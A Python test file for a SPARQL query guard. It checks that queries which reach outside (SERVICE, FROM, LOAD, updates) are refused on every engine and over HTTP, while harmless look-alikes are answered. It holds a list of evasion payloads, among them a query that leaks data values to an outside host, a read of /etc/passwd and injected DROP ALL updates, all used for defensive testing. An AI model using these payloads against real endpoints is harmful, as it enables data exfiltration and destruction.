"""Queries that try to reach out: refused on every engine and over HTTP, and nobody is called; and their harmless twins."""

from __future__ import annotations

import contextlib
import os
import socket
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import graphs
import pyoxigraph as ox
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rdflib import Graph, Literal, URIRef

from kg.errors import QueryError
from kg.rdf import writer as rdf
from kg.sparql import ask as queries
from kg.sparql import confinement, guard, serve
from kg.sparql import text as sparql
from kg.sparql import timeout as deadline
from kg.stores import store as stores

GRAPH = graphs.small()
LEAK = (
    "SELECT * WHERE { ?s oa:exact ?t BIND(IRI(CONCAT('AT/leak/', ENCODE_FOR_URI(?t))) AS ?u)\n"
    "LATERAL { FILTER(1<2)SERVICE#>\n?u {?x ?y ?z} } } LIMIT 3"
)
CALL = "<AT/x> { ?a ?b ?c }"
HOSTILE = {
    "plain": f"SELECT * WHERE {{ SERVICE {CALL} }}",
    "an IRI that is none": f"SELECT * WHERE {{ FILTER(1<2)SERVICE#>\n{CALL} }}",
    "lateral": LEAK,
    "lateral alone": f"SELECT * WHERE {{ ?s ?p ?o LATERAL {{ SERVICE {CALL} }} }}",
    "after a number": f"SELECT * WHERE {{ ?s ?p 1SERVICE {CALL} }}",
    "after a decimal": f"SELECT * WHERE {{ ?s ?p 1.5SERVICE {CALL} }}",
    "after a string": f"SELECT * WHERE {{ ?s ?p 'x'SERVICE {CALL} }}",
    "after a boolean": f"SELECT * WHERE {{ FILTER(true)SERVICE {CALL} }}",
    "silent, mixed case": f"select * where {{ sErViCe siLent {CALL} }}",
    "a comment between": f"SELECT * WHERE {{ SERVICE # <http://x/>\n{CALL} }}",
    "no blank": "SELECT*{SERVICE<AT/x>{?a ?b ?c}}",
    "a comment that a carriage return ends": f"SELECT * WHERE {{ ?s ?p ?o # x\rSERVICE {CALL}\n}}",
    "a string that an escape does not end": f'SELECT * WHERE {{ ?s ?p "\\u0022 # " . SERVICE {CALL}\n}}',
    "an escaped comment": f"SELECT * WHERE {{ ?s ?p ?o . \\u0023 \n SERVICE {CALL} }}",
    "an escaped letter": f"SELECT * WHERE {{ \\u0053ERVICE {CALL} }}",
    "a long escape": f"SELECT * WHERE {{ \\U00000053ERVICE {CALL} }}",
    "nested": f"SELECT * WHERE {{ {{ SELECT * WHERE {{ OPTIONAL {{ SERVICE {CALL} }} }} }} }}",
    "in a filter": f"SELECT * WHERE {{ ?s ?p ?o FILTER EXISTS {{ SERVICE {CALL} }} }}",
    "in a minus": f"SELECT * WHERE {{ ?s ?p ?o MINUS {{ SERVICE {CALL} }} }}",
    "in a union": f"SELECT * WHERE {{ {{ ?s ?p ?o }} UNION {{ SERVICE {CALL} }} }}",
    "in a graph": f"SELECT * WHERE {{ GRAPH ?g {{ SERVICE {CALL} }} }}",
    "by a prefix": "PREFIX e: <AT/> SELECT * WHERE { SERVICE e:x { ?a ?b ?c } }",
    "by the prefix SERVICE": "PREFIX SERVICE: <AT/> SELECT * WHERE { SERVICE SERVICE:x { ?a ?b ?c } }",
    "by the base": "BASE <AT/> SELECT * WHERE { SERVICE <x> { ?a ?b ?c } }",
    "by a variable": "SELECT * WHERE { BIND(<AT/x> AS ?e) SERVICE ?e { ?a ?b ?c } }",
    "by values": "SELECT * WHERE { VALUES ?e { <AT/x> } SERVICE ?e { ?a ?b ?c } }",
    "ask": f"ASK {{ SERVICE {CALL} }}",
    "construct": f"CONSTRUCT {{ ?a ?b ?c }} WHERE {{ SERVICE {CALL} }}",
    "describe": f"DESCRIBE ?a WHERE {{ SERVICE {CALL} }}",
    "after a property path": f"SELECT * WHERE {{ ?s (kg:source|kg:target)* ?o . SERVICE {CALL} }}",
    "in a having": f"SELECT ?s WHERE {{ ?s ?p ?o }} GROUP BY ?s HAVING (EXISTS {{ SERVICE {CALL} }})",
    "from": "SELECT * FROM <AT/x> WHERE { ?s ?p ?o }",
    "from named": "SELECT * FROM NAMED <AT/x> WHERE { GRAPH ?g { ?s ?p ?o } }",
    "from a prefix": "PREFIX e: <AT/> SELECT * FROM e:x WHERE { ?s ?p ?o }",
    "from a file": "SELECT * from <file:///etc/passwd> WHERE { ?s ?p ?o }",
    "from, after a string": "SELECT ('''x''' AS ?x) # y\nFROM <AT/x> {}",
    "from, described": "DESCRIBE <http://x/> FROM <AT/x>",
    "load": "LOAD <AT/x>",
    "load into": "LOAD SILENT <AT/x> INTO GRAPH <http://x/>",
    "load, after a comment": "# SELECT\nLOAD <AT/x>",
    "drop": "DROP ALL",
    "insert": "INSERT DATA { <http://a/> <http://b/> <http://c/> }",
    "insert where": f"INSERT {{ ?a ?b ?c }} WHERE {{ SERVICE {CALL} }}",
    "delete": "DELETE WHERE { ?s ?p ?o }",
    "a second request": "SELECT * WHERE { ?s ?p ?o } ; DROP ALL",
}  # fmt: skip
HARMLESS = {
    "a variable": "SELECT ?service WHERE { ?service ?from ?load } LIMIT 1",
    "a string": "SELECT * WHERE { ?s ?p ?o FILTER(?o != 'SERVICE <AT/x> {}') } LIMIT 1",
    "a long string": 'SELECT * WHERE { ?s ?p ?o FILTER(?o != """FROM <AT/x>\n"SERVICE" """) } LIMIT 1',
    "a comment": "# SERVICE <AT/x> FROM <AT/x>\nSELECT * WHERE { ?s ?p ?o } LIMIT 1 # SERVICE",
    "an IRI": "SELECT * WHERE { ?s ?p ?o FILTER(?o != <AT/SERVICE#FROM>) } LIMIT 1",
    "a name": "PREFIX from: <AT/> SELECT * WHERE { ?s ?p ?o FILTER(?o != from:SERVICE) } LIMIT 1",
    "a blank node": "SELECT * WHERE { _:SERVICE ?p ?o } LIMIT 1",
    "a language": "SELECT * WHERE { ?s ?p ?o FILTER(?o != 'x'@from) } LIMIT 1",
    "less and more": "SELECT * WHERE { ?service ?p ?o FILTER(1<2 && 3>2) } LIMIT 1",
    "nested": "SELECT * WHERE { { SELECT ?s (COUNT(*) AS ?from) WHERE { ?s ?p ?o } GROUP BY ?s } } LIMIT 1",
}
"""No keyword, whatever it looks like."""


class Listener:
    """Somebody outside who must not be called."""

    def __init__(self) -> None:
        self.socket, self.calls = socket.create_server(("127.0.0.1", 0)), 0
        self.at = f"http://127.0.0.1:{self.socket.getsockname()[1]}"
        threading.Thread(target=self._hear, daemon=True).start()

    def _hear(self) -> None:
        while True:
            try:
                caller, _ = self.socket.accept()
            except OSError:
                return
            self.calls += 1
            caller.close()


@pytest.fixture(scope="module")
def outside() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.socket.close()


@pytest.fixture(scope="module")
def sources(tmp_path_factory: pytest.TempPathFactory) -> dict[str, queries.Source]:
    """A graph for each engine, and a store's folder."""
    folder = tmp_path_factory.mktemp("guard") / "store"
    stores.append(GRAPH, folder)
    return {"oxigraph": GRAPH, "rdflib": rdf.to_rdflib(GRAPH), "folder": folder}


@pytest.fixture(scope="module")
def url(sources: dict[str, queries.Source]) -> Iterator[str]:
    """A server of the folder."""
    with serve.server(sources["folder"], timeout=20) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"{server.url}sparql"
        server.shutdown()
        thread.join()


def post(address: str, query: str) -> tuple[int, str]:
    asked = urllib.request.Request(address, query.encode(), {"Content-Type": "application/sparql-query"})
    try:
        with urllib.request.urlopen(asked, timeout=30) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        with error:
            return error.code, error.read().decode()


@pytest.mark.untraced
@pytest.mark.parametrize("engine", ["oxigraph", "rdflib", "folder"])
@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_is_reached(
    name: str, engine: str, sources: dict[str, queries.Source], outside: Listener
) -> None:
    """Refused in words, and nobody is called."""
    with pytest.raises(QueryError) as told:
        queries.run_query(HOSTILE[name].replace("AT", outside.at), sources[engine])
    assert "failed" not in str(told.value) and outside.calls == 0


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_is_reached_over_http(name: str, url: str, outside: Listener) -> None:
    """The same by the server, whose answer is a sentence."""
    status, text = post(url, HOSTILE[name].replace("AT", outside.at))
    assert status == 400 and 10 < len(text) < 300 and outside.calls == 0


@pytest.mark.parametrize("engine", ["oxigraph", "rdflib", "folder"])
@pytest.mark.parametrize("name", HARMLESS)
def test_the_harmless_are_answered(
    name: str, engine: str, sources: dict[str, queries.Source], outside: Listener
) -> None:
    """In names, strings and comments those words are only words."""
    assert len(queries.run_query(HARMLESS[name].replace("AT", outside.at), sources[engine])) == 1
    assert outside.calls == 0


def test_what_goes_beyond_sparql_1_1_is_answered() -> None:
    """Where it has no such word; with one it cannot be told what it does."""
    query = "SELECT * WHERE { ?s a kg:Event LATERAL { SELECT * WHERE { ?s kg:source ?a } LIMIT 1 } }"
    assert queries.run_query(query, GRAPH).rows
    with pytest.raises(QueryError, match=r"near LATERAL; if it is right, .* FROM: allow it with --allow"):
        queries.run_query(query.replace("?a", "?from"), GRAPH)
    assert queries.run_query(query.replace("?a", "?from"), GRAPH, allow=True).rows


def test_what_is_allowed_reaches_out(outside: Listener) -> None:
    """The listener does hear: --allow opens both doors, and an update stays one."""
    with pytest.raises(QueryError, match="failed"):
        queries.run_query(HOSTILE["plain"].replace("AT", outside.at), GRAPH, allow=True)
    assert outside.calls == 1
    outside.calls = 0
    with pytest.raises(QueryError, match="update"):
        queries.run_query("DROP ALL", GRAPH, allow=True)


@pytest.mark.parametrize("engine", ["oxigraph", "rdflib", "folder"])
def test_the_second_door_holds_alone(
    engine: str, sources: dict[str, queries.Source], outside: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Were the guard to let everything through, the process that asks could still call nobody."""
    if not _sockets_can_be_denied():
        assert not os.environ.get("KG_REQUIRE_SERVERS"), "sockets are not denied, though this system can"
        pytest.skip("this system cannot deny sockets to a process")
    monkeypatch.setattr(guard, "reach", lambda query, prefixes=None: guard.Reach())
    for name in ("plain", "an IRI that is none", "lateral", "by a variable", "from"):
        with contextlib.suppress(QueryError):
            queries.run_query(HOSTILE[name].replace("AT", outside.at), sources[engine])
        assert outside.calls == 0, name


def _sockets_can_be_denied() -> bool:
    return deadline.within(5, lambda: (str(confinement.no_sockets()), b""), network=True)[0] == "True"


def test_a_confined_process_opens_nothing(tmp_path: Path) -> None:
    """No file, no socket; what is allowed is allowed."""
    (tmp_path / "x").write_text("x", encoding="utf-8")

    def opens() -> deadline.Answer:
        return (tmp_path / "x").read_text(encoding="utf-8"), b""

    def calls() -> deadline.Answer:
        socket.socket().close()
        return "called", b""

    assert deadline.within(5, opens, files=True)[0] == "x"
    assert deadline.within(5, calls, network=True)[0] == "called"
    for work in (opens, calls):
        with pytest.raises(QueryError, match="failed"):
            deadline.within(5, work)
    if _sockets_can_be_denied():
        with pytest.raises(QueryError, match="failed"):
            deadline.within(5, calls, files=True)
    socket.socket().close()  # this process is as free as before


@pytest.mark.untraced
@settings(max_examples=60)
@given(
    st.lists(
        st.sampled_from(
            ["#", "#\n", "\n", '"', "'", "<", ">", "\\", "\\u0022", "#>", "\r", '"""', "1<2)", " "]
        )
    )
)
def test_noise_does_not_hide_it(noise: list[str]) -> None:
    """Whatever stands before it: Oxigraph calls nobody for what the guard lets through."""
    query = guard.one_line_end(
        f"SELECT * WHERE {{ ?s ?p ?o {''.join(noise)} SERVICE <http://127.0.0.1:9/> {{ }}\n}}"
    )
    store = ox.Store()
    store.add(ox.Quad(ox.NamedNode("http://x/s"), ox.NamedNode("http://x/p"), ox.Literal("o")))

    def work() -> deadline.Answer:
        try:
            guard.refuse(guard.reach(query), graphs=False)
            store.query(query)
        except (QueryError, SyntaxError):
            pass
        return "", b""

    deadline.within(5, work)  # fails where the engine wants a socket


@pytest.mark.untraced
@given(st.text(max_size=60))
def test_a_parameter_cannot_leave_its_place(text: str) -> None:
    """Whatever the text, it is one term of the query, and the rest is as before."""
    for query in ("SELECT ?s WHERE { ?s ?p ?text }", "SELECT ?text WHERE { ?s ?p ?text }"):
        made = sparql.surely_bound(query, {"text": Literal(text)}, {})
        terms = [each for each in guard.nodes(guard.parsed(made)) if isinstance(each, Literal)]
        assert len(terms) == 1 and ("VALUES" in made) == query.startswith("SELECT ?text")


def test_a_value_for_no_variable_is_told() -> None:
    """A slip of the pen in a name must not leave the answer as wide as without the value."""
    with pytest.raises(QueryError, match=r"no variable \?txet to bind: it has \?s, \?text"):
        sparql.surely_bound("SELECT ?s WHERE { ?s ?s ?text } # ?txet", {"txet": Literal("x")}, {})


@pytest.mark.parametrize(
    "query",
    [
        "PREFIX x: <http://x/> SELECT ?s WHERE { ?s x:a\\#b ?text }",
        "SELECT ?s WHERE { ?s ?p ?o FILTER(1<?text&&?o>2) }",
        "SELECT ?s WHERE { ?s ?p ?o FILTER(1<2)#>\n FILTER(?o = ?text) }",
    ],
)
def test_a_variable_that_is_not_bound_is_told(query: str) -> None:
    """Where our reading of the text and the parse differ: bound as the parse has it, or refused; never left open."""
    try:
        made = sparql.surely_bound(query, {"text": URIRef("http://v/")}, {})
    except QueryError as error:
        assert "cannot be bound" in str(error)
    else:
        assert made.count("<http://v/>") == 1 and "?text" not in made


def test_rdflib_graph_of_a_file_is_confined_too(tmp_path: Path) -> None:
    """The answer does not depend on what was read before."""
    rdf.write_rdf(GRAPH, tmp_path / "g.ttl")
    graph = Graph().parse(tmp_path / "g.ttl")
    assert queries.run_query("DESCRIBE kg:Nothing", graph).graph is not None
    assert queries.run_query("ASK { ?s a kg:Event }", graph).rows == ((True,),)
